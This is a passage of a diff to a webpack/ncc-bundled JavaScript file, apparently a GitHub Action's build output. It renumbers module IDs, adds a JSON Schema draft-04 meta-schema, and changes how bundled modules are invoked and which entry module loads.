 const getFoldOptions = (ctx, isBlock) => ({
     indentAtStart: isBlock ? ctx.indent.length : ctx.indentAtStart,
@@ -56743,12 +64604,12 @@ exports.stringifyString = stringifyString;
 
 /***/ }),
 
-/***/ 292:
+/***/ 204:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
+var identity = __nccwpck_require__(1127);
 
 const BREAK = Symbol('break visit');
 const SKIP = Symbol('skip children');
@@ -56986,70 +64847,77 @@ exports.visitAsync = visitAsync;
 
 /***/ }),
 
-/***/ 6590:
+/***/ 6337:
+/***/ ((module) => {
+
+module.exports = /*#__PURE__*/JSON.parse('{"id":"http://json-schema.org/draft-04/schema#","$schema":"http://json-schema.org/draft-04/schema#","description":"Core schema meta-schema","definitions":{"schemaArray":{"type":"array","minItems":1,"items":{"$ref":"#"}},"positiveInteger":{"type":"integer","minimum":0},"positiveIntegerDefault0":{"allOf":[{"$ref":"#/definitions/positiveInteger"},{"default":0}]},"simpleTypes":{"enum":["array","boolean","integer","null","number","object","string"]},"stringArray":{"type":"array","items":{"type":"string"},"minItems":1,"uniqueItems":true}},"type":"object","properties":{"id":{"type":"string","format":"uri"},"$schema":{"type":"string","format":"uri"},"title":{"type":"string"},"description":{"type":"string"},"default":{},"multipleOf":{"type":"number","minimum":0,"exclusiveMinimum":true},"maximum":{"type":"number"},"exclusiveMaximum":{"type":"boolean","default":false},"minimum":{"type":"number"},"exclusiveMinimum":{"type":"boolean","default":false},"maxLength":{"$ref":"#/definitions/positiveInteger"},"minLength":{"$ref":"#/definitions/positiveIntegerDefault0"},"pattern":{"type":"string","format":"regex"},"additionalItems":{"anyOf":[{"type":"boolean"},{"$ref":"#"}],"default":{}},"items":{"anyOf":[{"$ref":"#"},{"$ref":"#/definitions/schemaArray"}],"default":{}},"maxItems":{"$ref":"#/definitions/positiveInteger"},"minItems":{"$ref":"#/definitions/positiveIntegerDefault0"},"uniqueItems":{"type":"boolean","default":false},"maxProperties":{"$ref":"#/definitions/positiveInteger"},"minProperties":{"$ref":"#/definitions/positiveIntegerDefault0"},"required":{"$ref":"#/definitions/stringArray"},"additionalProperties":{"anyOf":[{"type":"boolean"},{"$ref":"#"}],"default":{}},"definitions":{"type":"object","additionalProperties":{"$ref":"#"},"default":{}},"properties":{"type":"object","additionalProperties":{"$ref":"#"},"default":{}},"patternProperties":{"type":"object","additionalProperties":{"$ref":"#"},"default":{}},"dependencies":{"type":"object","additionalProperties":{"anyOf":[{"$ref":"#"},{"$ref":"#/definitions/stringArray"}]}},"enum":{"type":"array","minItems":1,"uniqueItems":true},"type":{"anyOf":[{"$ref":"#/definitions/simpleTypes"},{"type":"array","items":{"$ref":"#/definitions/simpleTypes"},"minItems":1,"uniqueItems":true}]},"allOf":{"$ref":"#/definitions/schemaArray"},"anyOf":{"$ref":"#/definitions/schemaArray"},"oneOf":{"$ref":"#/definitions/schemaArray"},"not":{"$ref":"#"}},"dependencies":{"exclusiveMaximum":["maximum"],"exclusiveMinimum":["minimum"]},"default":{}}');
+
+/***/ }),
+
+/***/ 3837:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$id":"https://raw.githubusercontent.com/ajv-validator/ajv/master/lib/refs/data.json#","description":"Meta-schema for $data reference (JSON AnySchema extension proposal)","type":"object","required":["$data"],"properties":{"$data":{"type":"string","anyOf":[{"format":"relative-json-pointer"},{"format":"json-pointer"}]}},"additionalProperties":false}');
 
 /***/ }),
 
-/***/ 8433:
+/***/ 7216:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/applicator","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/applicator":true},"$dynamicAnchor":"meta","title":"Applicator vocabulary meta-schema","type":["object","boolean"],"properties":{"prefixItems":{"$ref":"#/$defs/schemaArray"},"items":{"$dynamicRef":"#meta"},"contains":{"$dynamicRef":"#meta"},"additionalProperties":{"$dynamicRef":"#meta"},"properties":{"type":"object","additionalProperties":{"$dynamicRef":"#meta"},"default":{}},"patternProperties":{"type":"object","additionalProperties":{"$dynamicRef":"#meta"},"propertyNames":{"format":"regex"},"default":{}},"dependentSchemas":{"type":"object","additionalProperties":{"$dynamicRef":"#meta"},"default":{}},"propertyNames":{"$dynamicRef":"#meta"},"if":{"$dynamicRef":"#meta"},"then":{"$dynamicRef":"#meta"},"else":{"$dynamicRef":"#meta"},"allOf":{"$ref":"#/$defs/schemaArray"},"anyOf":{"$ref":"#/$defs/schemaArray"},"oneOf":{"$ref":"#/$defs/schemaArray"},"not":{"$dynamicRef":"#meta"}},"$defs":{"schemaArray":{"type":"array","minItems":1,"items":{"$dynamicRef":"#meta"}}}}');
 
 /***/ }),
 
-/***/ 9217:
+/***/ 8226:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/content","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/content":true},"$dynamicAnchor":"meta","title":"Content vocabulary meta-schema","type":["object","boolean"],"properties":{"contentEncoding":{"type":"string"},"contentMediaType":{"type":"string"},"contentSchema":{"$dynamicRef":"#meta"}}}');
 
 /***/ }),
 
-/***/ 5695:
+/***/ 518:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/core","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/core":true},"$dynamicAnchor":"meta","title":"Core vocabulary meta-schema","type":["object","boolean"],"properties":{"$id":{"$ref":"#/$defs/uriReferenceString","$comment":"Non-empty fragments not allowed.","pattern":"^[^#]*#?$"},"$schema":{"$ref":"#/$defs/uriString"},"$ref":{"$ref":"#/$defs/uriReferenceString"},"$anchor":{"$ref":"#/$defs/anchorString"},"$dynamicRef":{"$ref":"#/$defs/uriReferenceString"},"$dynamicAnchor":{"$ref":"#/$defs/anchorString"},"$vocabulary":{"type":"object","propertyNames":{"$ref":"#/$defs/uriString"},"additionalProperties":{"type":"boolean"}},"$comment":{"type":"string"},"$defs":{"type":"object","additionalProperties":{"$dynamicRef":"#meta"}}},"$defs":{"anchorString":{"type":"string","pattern":"^[A-Za-z_][-A-Za-z0-9._]*$"},"uriString":{"type":"string","format":"uri"},"uriReferenceString":{"type":"string","format":"uri-reference"}}}');
 
 /***/ }),
 
-/***/ 9171:
+/***/ 4588:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/format-annotation","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/format-annotation":true},"$dynamicAnchor":"meta","title":"Format vocabulary meta-schema for annotation results","type":["object","boolean"],"properties":{"format":{"type":"string"}}}');
 
 /***/ }),
 
-/***/ 528:
+/***/ 5707:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/meta-data","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/meta-data":true},"$dynamicAnchor":"meta","title":"Meta-data vocabulary meta-schema","type":["object","boolean"],"properties":{"title":{"type":"string"},"description":{"type":"string"},"default":true,"deprecated":{"type":"boolean","default":false},"readOnly":{"type":"boolean","default":false},"writeOnly":{"type":"boolean","default":false},"examples":{"type":"array","items":true}}}');
 
 /***/ }),
 
-/***/ 1160:
+/***/ 9547:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/unevaluated","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/unevaluated":true},"$dynamicAnchor":"meta","title":"Unevaluated applicator vocabulary meta-schema","type":["object","boolean"],"properties":{"unevaluatedItems":{"$dynamicRef":"#meta"},"unevaluatedProperties":{"$dynamicRef":"#meta"}}}');
 
 /***/ }),
 
-/***/ 6123:
+/***/ 7082:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/meta/validation","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/validation":true},"$dynamicAnchor":"meta","title":"Validation vocabulary meta-schema","type":["object","boolean"],"properties":{"type":{"anyOf":[{"$ref":"#/$defs/simpleTypes"},{"type":"array","items":{"$ref":"#/$defs/simpleTypes"},"minItems":1,"uniqueItems":true}]},"const":true,"enum":{"type":"array","items":true},"multipleOf":{"type":"number","exclusiveMinimum":0},"maximum":{"type":"number"},"exclusiveMaximum":{"type":"number"},"minimum":{"type":"number"},"exclusiveMinimum":{"type":"number"},"maxLength":{"$ref":"#/$defs/nonNegativeInteger"},"minLength":{"$ref":"#/$defs/nonNegativeIntegerDefault0"},"pattern":{"type":"string","format":"regex"},"maxItems":{"$ref":"#/$defs/nonNegativeInteger"},"minItems":{"$ref":"#/$defs/nonNegativeIntegerDefault0"},"uniqueItems":{"type":"boolean","default":false},"maxContains":{"$ref":"#/$defs/nonNegativeInteger"},"minContains":{"$ref":"#/$defs/nonNegativeInteger","default":1},"maxProperties":{"$ref":"#/$defs/nonNegativeInteger"},"minProperties":{"$ref":"#/$defs/nonNegativeIntegerDefault0"},"required":{"$ref":"#/$defs/stringArray"},"dependentRequired":{"type":"object","additionalProperties":{"$ref":"#/$defs/stringArray"}}},"$defs":{"nonNegativeInteger":{"type":"integer","minimum":0},"nonNegativeIntegerDefault0":{"$ref":"#/$defs/nonNegativeInteger","default":0},"simpleTypes":{"enum":["array","boolean","integer","null","number","object","string"]},"stringArray":{"type":"array","items":{"type":"string"},"uniqueItems":true,"default":[]}}}');
 
 /***/ }),
 
-/***/ 5065:
+/***/ 1678:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://json-schema.org/draft/2020-12/schema","$vocabulary":{"https://json-schema.org/draft/2020-12/vocab/core":true,"https://json-schema.org/draft/2020-12/vocab/applicator":true,"https://json-schema.org/draft/2020-12/vocab/unevaluated":true,"https://json-schema.org/draft/2020-12/vocab/validation":true,"https://json-schema.org/draft/2020-12/vocab/meta-data":true,"https://json-schema.org/draft/2020-12/vocab/format-annotation":true,"https://json-schema.org/draft/2020-12/vocab/content":true},"$dynamicAnchor":"meta","title":"Core and Validation specifications meta-schema","allOf":[{"$ref":"meta/core"},{"$ref":"meta/applicator"},{"$ref":"meta/unevaluated"},{"$ref":"meta/validation"},{"$ref":"meta/meta-data"},{"$ref":"meta/format-annotation"},{"$ref":"meta/content"}],"type":["object","boolean"],"$comment":"This meta-schema also defines keywords that have appeared in previous drafts in order to prevent incompatible extensions as they remain in common use.","properties":{"definitions":{"$comment":"\\"definitions\\" has been replaced by \\"$defs\\".","type":"object","additionalProperties":{"$dynamicRef":"#meta"},"deprecated":true,"default":{}},"dependencies":{"$comment":"\\"dependencies\\" has been split and replaced by \\"dependentSchemas\\" and \\"dependentRequired\\" in order to serve their differing semantics.","type":"object","additionalProperties":{"anyOf":[{"$dynamicRef":"#meta"},{"$ref":"meta/validation#/$defs/stringArray"}]},"deprecated":true,"default":{}},"$recursiveAnchor":{"$comment":"\\"$recursiveAnchor\\" has been replaced by \\"$dynamicAnchor\\".","$ref":"meta/core#/$defs/anchorString","deprecated":true},"$recursiveRef":{"$comment":"\\"$recursiveRef\\" has been replaced by \\"$dynamicRef\\".","$ref":"meta/core#/$defs/uriReferenceString","deprecated":true}}}');
 
 /***/ }),
 
-/***/ 6564:
+/***/ 2079:
 /***/ ((module) => {
 
 module.exports = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"http://json-schema.org/draft-07/schema#","title":"Core schema meta-schema","definitions":{"schemaArray":{"type":"array","minItems":1,"items":{"$ref":"#"}},"nonNegativeInteger":{"type":"integer","minimum":0},"nonNegativeIntegerDefault0":{"allOf":[{"$ref":"#/definitions/nonNegativeInteger"},{"default":0}]},"simpleTypes":{"enum":["array","boolean","integer","null","number","object","string"]},"stringArray":{"type":"array","items":{"type":"string"},"uniqueItems":true,"default":[]}},"type":["object","boolean"],"properties":{"$id":{"type":"string","format":"uri-reference"},"$schema":{"type":"string","format":"uri"},"$ref":{"type":"string","format":"uri-reference"},"$comment":{"type":"string"},"title":{"type":"string"},"description":{"type":"string"},"default":true,"readOnly":{"type":"boolean","default":false},"examples":{"type":"array","items":true},"multipleOf":{"type":"number","exclusiveMinimum":0},"maximum":{"type":"number"},"exclusiveMaximum":{"type":"number"},"minimum":{"type":"number"},"exclusiveMinimum":{"type":"number"},"maxLength":{"$ref":"#/definitions/nonNegativeInteger"},"minLength":{"$ref":"#/definitions/nonNegativeIntegerDefault0"},"pattern":{"type":"string","format":"regex"},"additionalItems":{"$ref":"#"},"items":{"anyOf":[{"$ref":"#"},{"$ref":"#/definitions/schemaArray"}],"default":true},"maxItems":{"$ref":"#/definitions/nonNegativeInteger"},"minItems":{"$ref":"#/definitions/nonNegativeIntegerDefault0"},"uniqueItems":{"type":"boolean","default":false},"contains":{"$ref":"#"},"maxProperties":{"$ref":"#/definitions/nonNegativeInteger"},"minProperties":{"$ref":"#/definitions/nonNegativeIntegerDefault0"},"required":{"$ref":"#/definitions/stringArray"},"additionalProperties":{"$ref":"#"},"definitions":{"type":"object","additionalProperties":{"$ref":"#"},"default":{}},"properties":{"type":"object","additionalProperties":{"$ref":"#"},"default":{}},"patternProperties":{"type":"object","additionalProperties":{"$ref":"#"},"propertyNames":{"format":"regex"},"default":{}},"dependencies":{"type":"object","additionalProperties":{"anyOf":[{"$ref":"#"},{"$ref":"#/definitions/stringArray"}]}},"propertyNames":{"$ref":"#"},"const":true,"enum":{"type":"array","items":true,"minItems":1,"uniqueItems":true},"type":{"anyOf":[{"$ref":"#/definitions/simpleTypes"},{"type":"array","items":{"$ref":"#/definitions/simpleTypes"},"minItems":1,"uniqueItems":true}]},"format":{"type":"string"},"contentMediaType":{"type":"string"},"contentEncoding":{"type":"string"},"if":{"$ref":"#"},"then":{"$ref":"#"},"else":{"$ref":"#"},"allOf":{"$ref":"#/definitions/schemaArray"},"anyOf":{"$ref":"#/definitions/schemaArray"},"oneOf":{"$ref":"#/definitions/schemaArray"},"not":{"$ref":"#"}},"default":true}');
@@ -57078,7 +64946,7 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/dra
 /******/ 	// Execute the module function
 /******/ 	var threw = true;
 /******/ 	try {
-/******/ 		__webpack_modules__[moduleId](module, module.exports, __nccwpck_require__);
+/******/ 		__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
 /******/ 		threw = false;
 /******/ 	} finally {
 /******/ 		if(threw) delete __webpack_module_cache__[moduleId];
@@ -57195,6 +65063,6 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/dra
 /******/ // startup
 /******/ // Load entry module and return exports
 /******/ // This entry module used 'module' so it can't be inlined
-/******/ var __webpack_exports__ = __nccwpck_require__(2374);
+/******/ var __webpack_exports__ = __nccwpck_require__(4045);
 /******/ __webpack_exports__ = await __webpack_exports__;
 /******/ 
